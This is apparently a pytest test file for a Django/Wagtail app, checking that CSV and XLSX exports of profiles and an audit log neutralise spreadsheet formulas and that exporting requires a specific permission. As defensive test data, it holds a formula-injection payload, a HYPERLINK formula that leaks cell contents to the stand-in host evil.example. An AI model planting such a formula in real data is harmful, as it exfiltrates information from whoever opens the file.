import csv
import datetime
import decimal
import io

import openpyxl
import pytest
from import_export import fields, widgets

from jawda.models import Profile
from jawda.security.exports import (
    SafeExportResource,
    has_export_permission,
    has_import_permission,
    neutralise_cell,
)
from jawda.security.models import AuditEvent
from jawda.security.wagtail_hooks import AuditEventViewSet

from ..factories import ProfileFactory, UserFactory
from .conftest import grant

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+212 5 37 00 00 00", "'+212 5 37 00 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Atlas Qualité = excellence", "Atlas Qualité = excellence"),
        ("", ""),
        (-5, -5),
        (decimal.Decimal("-1.5"), decimal.Decimal("-1.5")),
        (datetime.date(2026, 11, 9), datetime.date(2026, 11, 9)),
        (None, None),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


class ProfileResource(SafeExportResource):
    balance = fields.Field(attribute="balance", widget=widgets.IntegerWidget())
    founded = fields.Field(attribute="founded", widget=widgets.DateWidget())
    # A dehydrate method's value is not rendered by a widget: a number stays a number.
    rank = fields.Field()

    class Meta:
        model = Profile
        fields = ["organisation_name", "ice", "balance", "founded", "rank"]

    def dehydrate_rank(self, profile):
        return -1


@pytest.fixture
def profiles(db):
    profile = ProfileFactory(organisation_name=FORMULA, ice="-123")
    profile.balance = -5
    profile.founded = datetime.date(1998, 11, 9)
    return [profile]


def test_a_formula_is_neutralised_in_csv_and_numbers_are_not(profiles):
    rows = list(csv.reader(io.StringIO(ProfileResource().export(profiles).csv)))

    assert rows[0] == ["organisation_name", "ice", "balance", "founded", "rank"]
    assert rows[1] == ["'" + FORMULA, "'-123", "-5", "1998-11-09", "-1"]


def test_a_formula_is_neutralised_in_xlsx_and_numbers_are_not(profiles):
    dataset = ProfileResource().export(profiles, force_native_type=True)
    sheet = openpyxl.load_workbook(io.BytesIO(dataset.xlsx)).active

    name, ice, balance, founded, rank = (cell for cell in sheet[2])
    assert name.value == "'" + FORMULA
    assert name.data_type == "s"
    assert ice.value == "'-123"
    assert balance.value == -5
    assert founded.value.date() == datetime.date(1998, 11, 9)
    assert rank.value == -1


def test_being_staff_is_not_enough_to_export_or_import(db):
    staff = UserFactory(is_staff=True)

    assert not has_export_permission(staff, AuditEvent)
    grant(staff, "security.export_auditevent")
    staff = type(staff).objects.get(pk=staff.pk)
    assert has_export_permission(staff, AuditEvent)
    assert not has_import_permission(staff, AuditEvent)


# The audit log's export in the Wagtail admin uses the same neutralisation and permission.

EXPORT_URL = "/admin/audit-log/?export="


def column(name):
    # Headings follow the admin user's language; positions do not.
    return AuditEventViewSet.list_export.index(name)


@pytest.fixture
def reader(staff):
    return grant(staff, "security.view_auditevent")


@pytest.fixture
def poisoned_event(db):
    return AuditEvent.objects.create(
        action="login_failed", target_repr=FORMULA, after={"email": "=1+1"}, ip="10.0.0.1"
    )


def test_staff_without_the_export_permission_cannot_export(client, reader, poisoned_event):
    client.force_login(reader)

    listing = client.get("/admin/audit-log/")
    response = client.get(EXPORT_URL + "csv")

    assert listing.status_code == 200
    assert "export=csv" not in listing.content.decode()
    assert response.status_code in (302, 403)
    assert FORMULA.encode() not in response.content


def test_the_audit_log_exports_neutralised_csv(client, reader, poisoned_event):
    client.force_login(grant(reader, "security.export_auditevent"))

    listing = client.get("/admin/audit-log/")
    response = client.get(EXPORT_URL + "csv")

    assert "export=csv" in listing.content.decode()
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="audit-log.csv"'
    rows = csv.reader(io.StringIO(b"".join(response.streaming_content).decode()))
    row = next(row for row in rows if row[column("action")] == "login_failed")
    assert row[column("target_repr")] == "'" + FORMULA
    assert row[column("after")] == '{"email": "=1+1"}'
    assert row[column("ip")] == "10.0.0.1"


def test_the_audit_log_exports_neutralised_xlsx(client, reader, poisoned_event):
    client.force_login(grant(reader, "security.export_auditevent"))

    response = client.get(EXPORT_URL + "xlsx")

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = sheet.iter_rows(min_row=2)
    row = next(row for row in rows if row[column("action")].value == "login_failed")
    target = row[column("target_repr")]
    assert target.value == "'" + FORMULA
    assert target.data_type == "s"
